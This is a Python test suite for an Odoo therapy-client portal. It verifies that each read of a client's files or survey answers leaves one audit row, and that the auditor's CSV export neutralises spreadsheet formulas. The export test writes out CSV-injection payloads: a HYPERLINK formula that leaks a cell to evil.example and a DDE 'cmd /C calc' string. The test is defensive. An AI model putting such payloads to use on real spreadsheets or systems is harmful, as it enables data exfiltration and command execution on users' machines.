"""Every read of health data leaves one append-only row: the client's downloads, the staff's
reads of a client's answers and files. The auditor's export opens in a spreadsheet as text."""

import csv
import io

from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from .common import PDF_BYTES, PNG_BYTES, SereneCase, SereneRpcMixin

ANSWERS_REPORT = "serene_client_portal.report_survey_answers"
# What the answers' form view asks for: the lines are the client's answers.
ANSWERS_FORM = {"state": {}, "user_input_line_ids": {"fields": {"display_name": {}}}}
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Open")'


@tagged("post_install", "-at_install", "serene", "security")
class TestAuditOfReads(SereneRpcMixin, SereneCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        Item = cls.env["serene.portal.item"]
        base = {"partner_id": cls.client.id}
        cls.resource = Item.create(
            dict(
                base,
                item_type="resource",
                name="Worksheet",
                attachment_ids=[(0, 0, {"name": "w.pdf", "raw": PDF_BYTES})],
            )
        )
        cls.request_item = Item.create(
            dict(
                base, item_type="document_request", name="Insurance card", accepted_kind_ids=cls._kinds("pdf", "image")
            )
        )
        cls.upload = cls.request_item.sudo()._portal_upload([("card.png", PNG_BYTES)])
        cls.consent = Item.create(dict(base, item_type="consent", name="Consent", description="<p>I agree.</p>"))
        cls.signed = cls.env["ir.attachment"].create(
            {"name": "signed.pdf", "raw": PDF_BYTES, "res_model": "serene.portal.item", "res_id": cls.consent.id}
        )
        cls.consent.attachment_ids = [(4, cls.signed.id)]
        cls.portal = cls.client.client_portal_id
        cls.key = cls.portal._new_access_url().rsplit("/", 1)[1]
        form = Item.create(dict(base, item_type="intake_form", survey_id=cls.survey_intake.id, name="Intake"))
        cls.answer = form.sudo()._portal_start_form()
        cls.answer._save_lines(cls.survey_intake.question_ids, "Tired but hopeful")
        cls.answer._mark_done()
        cls.form = form

    def _rows(self, event_type):
        return self.env["serene.portal.activity"].search([("event_type", "=", event_type)])

    def _assert_one_new_row(self, event_type, before, item, user=None):
        new = self._rows(event_type) - before
        self.assertEqual(len(new), 1, f"one {event_type} row")
        self.assertEqual(new.item_id, item)
        self.assertEqual(new.portal_id, self.portal)
        self.assertEqual(new.company_id, self.portal.company_id)
        self.assertEqual(new.actor, "staff" if user else "client")
        self.assertEqual(new.user_id, user or self.env["res.users"])
        return new

    def test_each_client_download_writes_one_row(self):
        self.authenticate(None, None)
        for item, attachment, event_type in (
            (self.resource, self.resource.attachment_ids, "resource_downloaded"),
            (self.request_item, self.upload, "file_downloaded"),
            (self.consent, self.signed, "file_downloaded"),
        ):
            with self.subTest(item=item.item_type):
                before = self._rows(event_type)
                response = self.url_open(f"/portal/{self.key}/item/{item.id}/file/{attachment.id}")
                self.assertEqual(response.status_code, 200)
                row = self._assert_one_new_row(event_type, before, item)
                self.assertTrue(row.key_fingerprint)

    def test_staff_opening_a_clients_file_writes_one_row(self):
        """The Records page's download and Odoo's viewer go through /web/content and /web/image;
        a resized preview (a thumbnail) is not a reading of the file."""
        self.authenticate("t_team", "t_team")
        for url in (
            f"/web/content/{self.upload.id}?download=true",
            f"/web/content/ir.attachment/{self.upload.id}/datas",
            f"/web/image/{self.upload.id}",
            f"/web/content/{self.signed.id}",
        ):
            with self.subTest(url=url):
                before = self._rows("file_viewed")
                response = self.url_open(url)
                self.assertEqual(response.status_code, 200)
                item = self.consent if str(self.signed.id) in url else self.request_item
                self._assert_one_new_row("file_viewed", before, item, self.user_team)
        before = self._rows("file_viewed")
        self.assertEqual(self.url_open(f"/web/image/{self.upload.id}/64x64").status_code, 200)
        self.assertEqual(self._rows("file_viewed"), before, "a thumbnail writes no row")
        action = self.rpc("ir.attachment", "action_serene_download", self.upload.ids)["result"]
        self.assertEqual(self.url_open(action["url"]).status_code, 200)
        self._assert_one_new_row("file_viewed", before, self.request_item, self.user_team)

    @mute_logger("odoo.http")
    def test_a_refused_file_writes_no_row(self):
        self.authenticate("t_other", "t_other")
        before = self._rows("file_viewed")
        self.assertNotEqual(self.url_open(f"/web/content/{self.upload.id}").status_code, 200)
        self.url_open(f"/web/image/{self.upload.id}")
        self.assertEqual(self._rows("file_viewed"), before)

    def test_staff_reading_a_clients_answers_writes_one_row_each(self):
        self.authenticate("t_team", "t_team")
        before = self._rows("answers_viewed")
        # The answers' list (scores, states) is not a reading of the answers; their form is.
        listed = self.rpc(
            "survey.user_input",
            "web_search_read",
            None,
            domain=[("id", "=", self.answer.id)],
            specification={"state": {}},
        )
        self.assertEqual(listed["result"]["records"][0]["state"], "done")
        self.assertEqual(self._rows("answers_viewed"), before)
        result = self.rpc("survey.user_input", "web_read", self.answer.ids, specification=ANSWERS_FORM)
        self.assertTrue(result["result"][0]["user_input_line_ids"])
        before = self._assert_one_new_row("answers_viewed", before, self.form, self.user_team) | before

        survey_token = self.answer.survey_id.access_token
        response = self.url_open(f"/survey/print/{survey_token}?answer_token={self.answer.access_token}&review=True")
        self.assertIn("Tired but hopeful", response.text)
        self._assert_one_new_row("answers_viewed", before, self.form, self.user_team)

        printed = self._rows("answers_printed")
        response = self.url_open(f"/report/pdf/{ANSWERS_REPORT}/{self.answer.id}")
        self.assertEqual(response.status_code, 200)
        self._assert_one_new_row("answers_printed", printed, self.form, self.user_team)

    @mute_logger("odoo.http")
    def test_refused_answers_write_no_row(self):
        self.authenticate("t_other", "t_other")
        rows = self._rows("answers_viewed") | self._rows("answers_printed")
        self.assertTrue(self.rpc("survey.user_input", "web_read", self.answer.ids, specification=ANSWERS_FORM)["error"])
        survey_token = self.answer.survey_id.access_token
        response = self.url_open(f"/survey/print/{survey_token}?answer_token={self.answer.access_token}&review=True")
        self.assertNotIn("Tired but hopeful", response.text)
        self.assertNotEqual(self.url_open(f"/report/pdf/{ANSWERS_REPORT}/{self.answer.id}").status_code, 200)
        self.assertEqual(self._rows("answers_viewed") | self._rows("answers_printed"), rows)

    def test_the_export_neutralises_spreadsheet_formulas(self):
        """What a visitor sends (their browser's name) is text in the auditor's spreadsheet."""
        self.authenticate(None, None)
        agents = (HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")
        for agent in agents:
            self.url_open(f"/portal/{self.key}", headers={"User-Agent": agent})
        # No browser sends a name starting with a tab or a carriage return; the detail can.
        Activity = self.env["serene.portal.activity"]
        Activity._log(self.portal, "portal_viewed", actor="client", detail="\t=1+1")
        Activity._log(self.portal, "portal_viewed", actor="client", detail="\r=1+1")
        self.authenticate("t_manager", "t_manager")
        wizard = self.rpc("serene.portal.activity.export", "create", None, {})["result"]
        answer = self.rpc("serene.portal.activity.export", "action_export", [wizard])
        url = self.confirm_identity(answer, "t_manager")["result"]["url"]
        rows = list(csv.reader(io.StringIO(self.url_open(url).content.decode())))
        cells = [cell for row in rows[1:] for cell in row]
        for agent in agents:
            self.assertIn("'" + agent, cells)
        self.assertIn("'\t=1+1", cells)
        self.assertIn("'\r=1+1", cells)
        for cell in cells:
            self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell)
